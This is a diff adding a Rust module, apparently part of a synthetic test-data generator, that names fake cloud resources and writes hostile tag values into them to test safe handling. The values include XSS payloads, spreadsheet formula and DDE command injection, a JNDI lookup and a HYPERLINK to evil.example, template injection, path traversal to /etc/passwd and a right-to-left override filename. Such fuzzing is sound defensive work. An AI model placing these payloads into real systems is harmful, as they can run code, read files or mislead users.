@@ -1,0 +1,62 @@
+//! What people call things, and what somebody once wrote into a tag.
+
+use std::sync::Arc;
+
+use super::draft::Draft;
+use super::thing::{Kind, Thing};
+use super::uses::Use;
+
+/// What things are for.
+const ROLES: [&str; 12] =
+    ["api", "worker", "batch", "web", "gateway", "search", "ingest", "report", "cache", "queue", "stream", "model"];
+
+/// How often each hostile value is written.
+const TIMES: usize = 4;
+
+/// `checkout-worker-07`, after the owner's team.
+pub(super) fn name(of: &Use, role: &str, number: usize) -> String {
+    let team = of.attributes.tags.value("Team");
+    let team = if team.is_empty() { "legacy" } else { team };
+    format!("{team}-{role}-{number:02}")
+}
+
+/// A role by its number.
+pub(super) fn role(number: usize) -> &'static str {
+    ROLES.get(number % ROLES.len()).copied().unwrap_or("api")
+}
+
+/// Values that a reader of tags must take for text, whatever they look like.
+fn hostile() -> Vec<(&'static str, String)> {
+    vec![
+        ("Name", "<script>alert(1)</script>".to_owned()),
+        ("Name", "\"><img src=x onerror=alert(1)>".to_owned()),
+        ("Name", "=HYPERLINK(\"http://evil.example\",\"open\")".to_owned()),
+        ("Name", "@SUM(A1:A9)".to_owned()),
+        ("Name", "+1+cmd|' /C calc'!A0".to_owned()),
+        ("Name", "-2+3".to_owned()),
+        ("Note", "\t=1+1".to_owned()),
+        ("Note", "two\nlines\r\nand \"quotes\", 'single' too".to_owned()),
+        ("Note", "x".repeat(256)),
+        ("Note", String::new()),
+        ("Name", "خادم الدفع".to_owned()),
+        ("Name", "订单服务-生产".to_owned()),
+        ("Name", "\u{202E}gnp.exe\u{202C} 🦀".to_owned()),
+        ("Note", "zero\u{200B}width\u{FEFF}".to_owned()),
+        ("<b>key</b>", "{{constructor.constructor('alert(1)')()}}".to_owned()),
+        ("Note", "${jndi:ldap://evil.example/a} %00 ../../etc/passwd".to_owned()),
+    ]
+}
+
+/// Writes hostile values into the tags of the first things that take any text.
+pub(super) fn add_hostile(draft: &mut Draft<'_>) {
+    let takes_any_text = |thing: &Thing| matches!(thing.kind, Kind::Instance(_) | Kind::Volume(_) | Kind::Function(_));
+    let places = draft.places(takes_any_text);
+    // Each several times, all along the list: they are to be met in every account and kind.
+    let step = (places.len() / TIMES / hostile().len()).max(1);
+    for ((key, value), place) in hostile().into_iter().cycle().zip(places.into_iter().step_by(step)) {
+        let key = draft.word(key);
+        let Some(thing) = draft.things.get_mut(place as usize) else { continue };
+        thing.tags.retain(|(other, _)| *other != key);
+        thing.tags.push((key, Arc::from(value.as_str())));
+    }
+}
